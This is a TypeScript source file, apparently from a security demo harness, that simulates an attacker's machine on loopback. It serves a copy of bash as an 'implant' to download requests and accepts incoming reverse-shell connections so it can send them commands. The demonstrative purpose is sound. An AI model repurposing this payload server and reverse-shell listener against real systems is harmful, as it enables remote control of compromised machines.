import { createReadStream } from 'node:fs';
import type { Socket } from 'node:net';
import { withDeadline } from '@ringfence/base';
import { DemoError } from './errors.ts';
import { LoopbackServer } from './loopback-server.ts';

/**
 * The attacker's machine, on loopback. It sends the implant, a copy of bash, on a connection whose first line starts
 * with GET, and takes any other connection as the reverse shell.
 */
export class Attacker implements AsyncDisposable {
  readonly #server: LoopbackServer;
  readonly #reverseShell: Promise<Socket>;
  #shell: Socket | undefined;

  private constructor(server: LoopbackServer, reverseShell: Promise<Socket>) {
    this.#server = server;
    this.#reverseShell = reverseShell;
    void reverseShell.then((socket) => {
      this.#shell = socket;
    });
  }

  static async listen(): Promise<Attacker> {
    const { promise, resolve } = Promise.withResolvers<Socket>();
    return new Attacker(await LoopbackServer.listen((socket) => accept(socket, resolve)), promise);
  }

  get port(): number {
    return this.#server.port;
  }

  /** Waits for the reverse shell. Rejects with DemoError after `timeoutMs`. */
  waitForShell(timeoutMs: number): Promise<Socket> {
    return withDeadline(this.#reverseShell, timeoutMs, () => new DemoError(`no reverse shell within ${timeoutMs} ms`));
  }

  /** Sends a command to the reverse shell. */
  send(command: string): void {
    this.#shell?.write(`${command}\n`);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server[Symbol.asyncDispose]();
  }
}

/** A shell sends nothing before its first command, a download starts with a request. */
const SILENCE_OF_SHELL_MS = 150;

function accept(socket: Socket, onShell: (socket: Socket) => void): void {
  const timer = setTimeout(() => onShell(socket), SILENCE_OF_SHELL_MS);
  socket.once('data', (chunk) => {
    if (!chunk.toString('latin1').startsWith('GET ')) return;
    clearTimeout(timer);
    if (chunk.includes('HTTP/'))
      socket.write('HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n');
    createReadStream('/bin/bash').pipe(socket);
  });
}
